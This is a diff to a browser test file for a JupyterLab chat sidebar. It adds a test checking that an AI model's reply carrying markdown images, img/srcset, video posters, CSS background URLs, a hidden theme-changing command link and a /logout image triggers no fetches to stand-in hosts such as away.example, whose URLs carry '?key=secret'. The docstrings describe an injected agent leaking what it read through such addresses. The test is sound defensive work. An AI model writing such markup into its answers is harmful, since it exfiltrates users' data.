@@ -175,27 +175,6 @@ def test_an_answer_is_streamed_stopped_and_asked_again(
     sidebar.theme("JupyterLab Light")  # the server keeps it
 
 
-def test_an_answer_loads_nothing_from_elsewhere(sidebar: Sidebar, lab: Lab, model: MessagesServer) -> None:
-    """An address can carry away what the agent was tricked into writing there."""
-    panel, asked = sidebar.panel, []
-    sidebar.page.on("request", lambda request: asked.append(request.url))
-    away = "http://elsewhere.invalid"
-    model.turns += [
-        says(
-            f"![a curve]({away}/1.png?q=secret) and ![ours](/static/favicons/favicon.ico)\n\n"
-            f'<img srcset="{away}/2.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="> '
-            f'<video poster="{away}/3.png" src="{away}/4.mp4"></video> '
-            f'<p style="background-image: url({away}/5.png)">All of it.</p>'
-        )
-    ]
-    sidebar.command("wavebook:new-conversation")
-    sidebar.ask("Show me the curve")
-    expect(panel.get_by_text("All of it.", exact=True)).to_be_visible(timeout=ANSWER)
-    expect(panel.get_by_role("link", name="a curve")).to_have_attribute("href", f"{away}/1.png?q=secret")
-    expect(panel.get_by_role("img", name="ours")).to_be_visible()
-    assert [url for url in asked if not url.startswith((lab.address, "data:", "blob:"))] == []
-
-
 def test_what_is_written_during_an_answer_is_not_lost(sidebar: Sidebar, model: MessagesServer) -> None:
     panel = sidebar.panel
     stop = panel.locator(".jp-chat-input-toolbar").get_by_role("button", name="Stop")
@@ -224,6 +203,33 @@ def test_what_is_written_during_an_answer_is_not_lost(sidebar: Sidebar, model: M
     sidebar.input.press("Enter")
     expect(panel).to_contain_text("Steps are as hard.", timeout=ANSWER)
     expect(sidebar.input).to_have_value("")
+
+
+HIDDEN = """\
+Look: ![of the log](https://away.example/a.png?key=secret) and <img src="//away.example/b.png" alt="a picture"> and
+<span style="background-image: url(https://away.example/c.png)">a colour</span> and
+<a href="#" data-commandlinker-command="apputils:change-theme" data-commandlinker-args="{}">a link</a>, and
+![ours](/logout) and <img srcset="//away.example/d.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="> and
+<video poster="//away.example/e.png" src="//away.example/f.mp4"></video> and
+![a point](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=). That is all."""
+
+
+def test_what_is_said_fetches_nothing_and_runs_nothing(sidebar: Sidebar, model: MessagesServer) -> None:
+    """A log may ask for a picture whose address carries away what was read."""
+    fetched: list[str] = []
+    sidebar.page.on("request", lambda request: fetched.append(request.url))
+    sidebar.command("wavebook:new-conversation")
+    model.turns += [says(HIDDEN)]
+    sidebar.ask("Show me the log")
+    message = sidebar.panel.locator(".jp-chat-message").last
+    expect(message).to_contain_text("That is all.", timeout=ANSWER)
+    expect(message).to_contain_text("Look: of the log and a picture and")
+    address = "https://away.example/a.png?key=secret"  # a person sees it before a click
+    expect(message.get_by_role("link", name="of the log")).to_have_attribute("href", address)
+    expect(message.locator("img")).to_have_count(1)  # the one that lies in the message itself
+    expect(message.locator("video")).to_have_count(0)
+    expect(message.locator("[style*=url], [data-commandlinker-command]")).to_have_count(0)
+    assert [url for url in fetched if "away.example" in url or "logout" in url] == []
 
 
 def test_messages_that_were_fetched_before_an_answer_do_not_replace_it(sidebar: Sidebar, model: MessagesServer) -> None:
